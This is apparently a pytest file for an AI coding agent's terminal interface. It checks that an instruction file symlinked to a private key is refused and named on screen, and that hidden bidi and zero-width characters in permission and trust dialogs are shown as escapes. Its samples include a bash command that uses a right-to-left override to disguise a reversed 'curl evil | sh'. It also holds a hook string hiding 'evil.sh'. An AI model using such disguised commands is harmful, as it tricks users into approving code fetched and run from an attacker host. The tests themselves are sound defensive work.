"""What a project, a model or a server wrote reaches the screen as it is (issue 22 items 2, 14):
an instruction file refused is named in a notice; bidi controls and zero-width characters in a
command or a trust question are drawn as visible escapes, so the terminal cannot reorder them."""

from __future__ import annotations

from .conftest import ready, screen_text, send, turn_done
from .test_real_agent import Real


async def test_an_instruction_file_that_was_not_read_is_named_on_screen(tmp_path):
    real = Real(tmp_path)
    key = tmp_path / "id_rsa"
    key.write_text("PRIVATE KEY\n")
    (real.cwd / "AGENTS.md").symlink_to(key)
    app = real.app([{"text": "hello"}])
    async with app.run_test(size=(120, 30)) as pilot:
        await ready(pilot)
        await send(pilot, "hi")
        await turn_done(pilot)
        text = " ".join(screen_text(app).split())
        assert "AGENTS.md was not read into the system prompt" in text
        assert "PRIVATE KEY" not in "".join(real.provider.requests[0].system)


RLO, PDF, ZWSP, LRI, PDI = "\u202e", "\u202c", "\u200b", "\u2066", "\u2069"
HIDDEN = (RLO, PDF, ZWSP, LRI, PDI, "\u200f", "\u061c", "\ufeff")


async def test_the_permission_dialog_shows_bidi_and_zero_width_characters_as_escapes(tmp_path):
    """``echo safe`` + RLO + ``hs | live lruc`` is drawn by a bidi terminal as ``curl evil |
    sh``-like text in the other order; in the dialog each control must be seen, not obeyed."""
    from larik.tui.screens.permission import PermissionScreen

    from .conftest import wait_for
    from .test_terminal_escapes import _written

    real = Real(tmp_path)
    command = f"echo safe {RLO}hs | live lruc{PDF} #{ZWSP}{LRI}x{PDI}\u200f\u061c\ufeff"
    call = {"name": "bash", "input": {"command": command}, "id": "b1"}
    app = real.app([{"tool_calls": [call]}, {"text": "end"}])
    async with app.run_test(size=(120, 30)) as pilot:
        await ready(pilot)
        await send(pilot, "go")
        await wait_for(pilot, lambda: isinstance(app.screen, PermissionScreen))
        await pilot.pause()
        written = _written(app)
        for ch in HIDDEN:
            assert ch not in written, repr(ch)
        assert "\\u202ehs | live lruc\\u202c #\\u200b\\u2066x\\u2069\\u200f\\u061c\\ufeff" in (
            screen_text(app)
        )
        await pilot.press("n")
        await turn_done(pilot)
        for ch in HIDDEN:  # the tool card that stays in the conversation too
            assert ch not in _written(app), repr(ch)


async def test_the_trust_dialog_shows_bidi_and_zero_width_characters_as_escapes(tmp_path):
    from larik.trust import ProjectTrust
    from larik.tui.screens.trust import TrustScreen

    from .test_terminal_escapes import _written
    from .test_trust_screen import Host

    asks = (f"hooks: SessionStart runs 'echo ok {RLO}hs.tlive{PDF}{ZWSP}'",)
    root = tmp_path / f"pro{RLO}j"
    request = ProjectTrust(
        root=root, config_file=root / ".larik" / "config.toml", asks=asks, digest="d"
    )
    app = Host(request)
    async with app.run_test(size=(120, 30)) as pilot:
        await pilot.pause()
        assert isinstance(app.screen, TrustScreen)
        written = _written(app)
        for ch in HIDDEN:
            assert ch not in written, repr(ch)
        text = " ".join(screen_text(app).split())  # what is drawn, bullets' hanging indent too
        assert "echo ok \\u202ehs.tlive\\u202c\\u200b" in text and "pro\\u202ej" in text
